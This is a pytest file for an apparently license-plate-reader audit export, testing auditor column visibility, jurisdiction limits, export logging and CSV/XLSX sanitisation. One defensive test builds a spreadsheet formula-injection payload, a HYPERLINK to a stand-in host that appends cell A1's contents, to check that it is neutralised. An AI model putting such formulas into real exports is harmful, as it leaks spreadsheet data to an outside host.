"""The audit export: the columns filled for the searching agency's auditors, exactly the
visibility of the entries served one by one (a federal auditor exports nothing of a
California officer's search), the export logged before any row is returned."""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import datetime, timedelta

import pytest

from plateledger.access import AuditUnavailable, NotPermitted
from plateledger.access.audit_export import (
    COLUMNS,
    LEAF_NAMESPACE,
    AuditExporter,
    to_csv,
    to_ndjson,
)
from plateledger.access.audit_reads import AuditReader
from plateledger.access.searches import SearchCreate, SearchParams, search
from plateledger.audit.redaction import View, served
from tests.access.conftest import (  # noqa: F401  (fixtures used by name)
    CASE,
    PURPOSE,
    REASON,
    BreakLog,
    Office,
    break_audit_log,
    now,
    office,
)
from tests.factories import make_read

PLATE = "7EXPO88"


@pytest.fixture
def exporter(office: Office) -> AuditExporter:  # noqa: F811
    return AuditExporter(AuditReader(office.audit_log, office.catalog, office.policy))


def searched(office: Office, now: datetime) -> int:  # noqa: F811
    """Union City's investigator searches a week; Fremont (two cameras) shares, Union City
    has one camera. The entry's index."""
    office.share()
    for camera, owner in (("fpd-1", office.fpd), ("fpd-2", office.fpd), ("uc-1", office.ucpd)):
        office.catalog.add_camera(camera, owner.id, lat=37.55, lon=-122.0)
    office.add(make_read(PLATE, owner=office.fpd.id, now=now))
    ivy = office.user(office.ucpd, "ivy", "investigator")
    params = SearchParams(plate=PLATE, since=now - timedelta(days=7), until=now)
    body = SearchCreate(kind="exact", params=params, purpose=PURPOSE, case_number=CASE,
                        reason=REASON, offense_type="240")
    answer = search(office.gate, office.store, office.holds, body, ivy)
    assert answer.audit_index is not None and answer.total == 1
    return answer.audit_index


def test_the_searching_agencys_auditor_gets_every_column_of_its_search(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    index = searched(office, now)
    audrey = office.user(office.ucpd, "audrey", "auditor")
    [row] = exporter.rows(audrey)
    record = office.audit_log.entry(index)
    assert row["ID"] == record.entry["query"]["search_id"]
    assert row["Name"] == "ivy" and row["Org Name"] == "Union City PD"
    assert row["Org Slug"] == "ucpd" and row["Org Class"] == "municipal"
    assert row["Requester Jurisdiction"] == "CA" and row["Decision"] == "allowed"
    assert row["Total Devices Searched"] == "3"  # both owners' cameras were in scope
    assert row["Reads Returned Per Network"] == "fpd=1;ucpd=0"
    assert row["Networks Released"].startswith("fpd(") and ";ucpd(" in row["Networks Released"]
    local = datetime.fromisoformat(row["Search Time (Local)"].split(" ")[0])
    assert local == datetime.fromisoformat(record.entry["time"].replace("Z", "+00:00"))
    assert row["Search Time (Local)"].endswith((" PST", " PDT"))  # Union City keeps CA time
    assert row["License Plate"] == PLATE and row["Case #"] == CASE
    assert row["Reason"] == REASON and row["Purpose"] == PURPOSE
    assert row["Search Type"] == "exact" and row["Offense Type"] == "240"
    assert row["Total Networks Searched"] == "2"  # both owners were asked
    assert row["Networks Denied"] == ""
    assert row["Reads Returned"] == "1" and row["Reads Matched"] == "1"
    assert row["Time Frame Start"] and row["Time Frame End"]
    assert row["Leaf Index"] == str(index)
    assert row["Inclusion Proof"].startswith(f"/v1/audit/proof/inclusion?index={index}&")
    assert row["Result Digest"] == record.entry["result_digest"]
    assert row["Search Time (UTC)"] == record.entry["time"]
    assert int(row["Checkpoint Size"]) > index
    assert row["Time Frame Start"] < row["Time Frame End"]
    # the export itself is an entry, written before the rows were returned
    last = office.entries(index + 1)[-1]
    assert (last["type"], last["agency"], last["indexes"], last["export"]) == (
        "audit_read", "ucpd", [index], True)


def test_a_federal_auditor_exports_nothing_of_california_officers_searches(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    index = searched(office, now)
    feds = office.catalog.add_agency("Federal Task Force", "ftf", "federal", "DC")
    fiona = office.user(feds, "fiona", "auditor")
    size = office.audit_log.size()
    assert exporter.rows(fiona) == []
    assert PLATE not in to_csv(exporter.rows(fiona))
    # nothing exported, and each empty export is logged as such: an empty answer also
    # tells something of the log, so it is not an unlogged probe
    logged = office.entries(size)
    assert [(e["type"], e["agency"], e["indexes"], e["total"]) for e in logged] == [
        ("audit_read", "ftf", [], 0)] * 2
    # and the one-by-one reading agrees: the federal agency is served the public view
    assert AuditReader(office.audit_log, office.catalog, office.policy).entry(
        fiona, index)["view"] == "public"


def test_the_export_serves_exactly_the_full_views_of_the_reader(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    searched(office, now)
    hayward = office.catalog.add_agency("Hayward PD", "hpd", "municipal", "CA")
    hal = office.user(office.ucpd, "hal", "investigator")
    denied_search = SearchCreate(kind="exact", params=SearchParams(plate="1DENY11"),
                                 purpose="homicide", reason=REASON, offense_type="09A")
    search(office.gate, office.store, office.holds, denied_search, hal)
    for agency in (office.ucpd, office.fpd, hayward):
        auditor = office.user(agency, f"aud-{agency.slug}", "auditor")
        reader = AuditReader(office.audit_log, office.catalog, office.policy).reader(auditor)
        size = office.audit_log.size()
        expected = [r.index for r in office.audit_log.entries(0, size)
                    if r.entry["type"] in {"search", "export"}
                    and served(r.entry, reader)[0] in (View.FULL, View.OWNER)]
        rows = exporter.rows(auditor, 0, size)
        assert [int(r["Leaf Index"]) for r in rows] == expected
        for row in rows:  # an owner's row: its own count only, as its view serves it
            entry = office.audit_log.entry(int(row["Leaf Index"])).entry
            if served(entry, reader)[0] is View.OWNER:
                assert row["Reads Returned Per Network"] == \
                    f"{agency.slug}={entry['returned_by_owner'][agency.slug]}"
                assert row["Result Digest"] == row["Total Devices Searched"] == ""


def test_an_investigator_may_not_export_the_log(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    searched(office, now)
    ivy2 = office.user(office.ucpd, "ivy2", "investigator")
    with pytest.raises(NotPermitted):
        exporter.rows(ivy2)


def test_no_record_of_the_export_no_rows(
    office: Office, exporter: AuditExporter, now: datetime,  # noqa: F811
    break_audit_log: BreakLog,  # noqa: F811
) -> None:
    searched(office, now)
    audrey = office.user(office.ucpd, "audrey", "auditor")
    break_audit_log()
    with pytest.raises(AuditUnavailable):
        exporter.rows(audrey)


def test_csv_and_ndjson_carry_every_column(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    searched(office, now)
    rows = exporter.rows(office.user(office.ucpd, "audrey", "auditor"))
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert tuple(parsed[0]) == COLUMNS and parsed == rows
    lines = [json.loads(line) for line in to_ndjson(rows).splitlines()]
    assert lines == rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_csv_or_xlsx_starts_a_formula(start: str) -> None:
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    from plateledger.access.audit_export import to_xlsx

    hostile = f"{start}HYPERLINK(\"http://x.example/?\"&A1,\"open\")"
    row = {column: hostile for column in COLUMNS}
    [parsed] = list(csv.DictReader(io.StringIO(to_csv([row]))))
    assert all(value == "'" + hostile for value in parsed.values())
    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
    cells = next(iter(sheet.iter_rows(min_row=2)))
    stored = {"'" + hostile, "'" + hostile.replace("\r", "\n")}  # XML reads CR as LF
    assert all(cell.data_type == "s" and cell.value in stored for cell in cells)
    safe = {column: "7ABC123" for column in COLUMNS}
    assert list(csv.DictReader(io.StringIO(to_csv([safe])))) == [safe]


def test_an_entry_without_a_search_id_gets_a_stable_id_from_its_leaf(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    from plateledger.audit.entry import new_entry

    old = office.audit_log.append(new_entry(
        "search", user="ivy", agency="ucpd", requested_by_agency="ucpd", purpose=PURPOSE,
        kind="exact", query={"plate": PLATE}, owners_allowed=["ucpd"], owners_denied=[],
        result_count=0, returned=0, result_digest="0" * 64))
    audrey = office.user(office.ucpd, "audrey", "auditor")
    [first] = exporter.rows(audrey, old, old + 1)
    [again] = exporter.rows(audrey, old, old + 1)
    leaf = office.audit_log.entry(old).leaf_hash.hex()
    assert first["ID"] == again["ID"] == str(uuid.uuid5(LEAF_NAMESPACE, leaf))
    assert first["Time Frame Start"] == "unbounded"
    assert first["Time Frame End"] == first["Search Time (UTC)"]


def test_the_legal_basis_of_a_pattern_of_life_search_is_its_column(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    from plateledger.access.legal_basis import LegalBasis

    basis = LegalBasis(kind="court_order", number="CO-2026-77", court="Alameda Superior Court")
    ivy = office.user(office.ucpd, "ivy", "investigator")
    question = office.gate.question(
        ivy, action="search_locate", purpose=PURPOSE, case_number=CASE, reason=REASON,
        requested_by=None, lookback_days=30, now=now)
    decision = office.gate.decide(question)
    facts = basis.audit_facts()
    index = office.gate.record(
        question, decision, "search", kind="locate", query={"plate": PLATE},
        owners_allowed=["ucpd"], owners_denied=[],
        legal_basis_kind=facts["legal_basis_kind"],
        legal_basis_number=facts["legal_basis_number"],
        legal_basis_court=facts["legal_basis_court"])
    [row] = exporter.rows(office.user(office.ucpd, "audrey", "auditor"), index, index + 1)
    assert row["Legal Basis"] == "court order CO-2026-77 (Alameda Superior Court)"
    assert row["Search Type"] == "locate"


def test_the_docs_describe_every_column_in_order() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs" / "audit.md").read_text()
    section = doc.split("## Audit export\n", 1)[1].split("\n## ", 1)[0]
    named = [name.strip() for line in section.splitlines()
             if line.startswith("| ") and not line.startswith(("| column", "|---"))
             for name in line.split(" | ")[0].removeprefix("| ").split(", ")]
    assert named == list(COLUMNS)


def test_a_stakeouts_time_frame_spans_its_areas_where_its_entry_records_them(
    office: Office, exporter: AuditExporter, now: datetime  # noqa: F811
) -> None:
    ivy = office.user(office.ucpd, "ivy", "investigator")
    question = office.gate.question(
        ivy, action="search_stakeout", purpose=PURPOSE, case_number=CASE, reason=REASON,
        requested_by=None, lookback_days=30, now=now)
    box = {"shape": "box", "south": 37.5, "west": -122.1, "north": 37.6, "east": -122.0}
    areas = [{**box, "since": "2026-03-03T00:00:00.000Z", "until": "2026-03-04T00:00:00.000Z"},
             {**box, "since": "2026-03-01T00:00:00.000Z", "until": "2026-03-02T00:00:00.000Z"}]
    index = office.gate.record(
        question, office.gate.decide(question), "search", kind="stakeout",
        query={"stakeout": {"areas": areas, "min_areas": 2}}, owners_allowed=["ucpd"],
        owners_denied=[])
    [row] = exporter.rows(office.user(office.ucpd, "audrey", "auditor"), index, index + 1)
    assert row["Time Frame Start"] == "2026-03-01T00:00:00.000Z"
    assert row["Time Frame End"] == "2026-03-04T00:00:00.000Z"
    assert row["License Plate"] == "" and '"min_areas":2' in row["Filters"]


def test_control_characters_a_workbook_cannot_hold_become_replacement_characters() -> None:
    from openpyxl import load_workbook

    from plateledger.access.audit_export import to_xlsx

    row = {column: "grey\x07 sedan\x1b" for column in COLUMNS}
    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
    assert {cell.value for cell in next(iter(sheet.iter_rows(min_row=2)))} == {
        "grey\ufffd sedan\ufffd"}
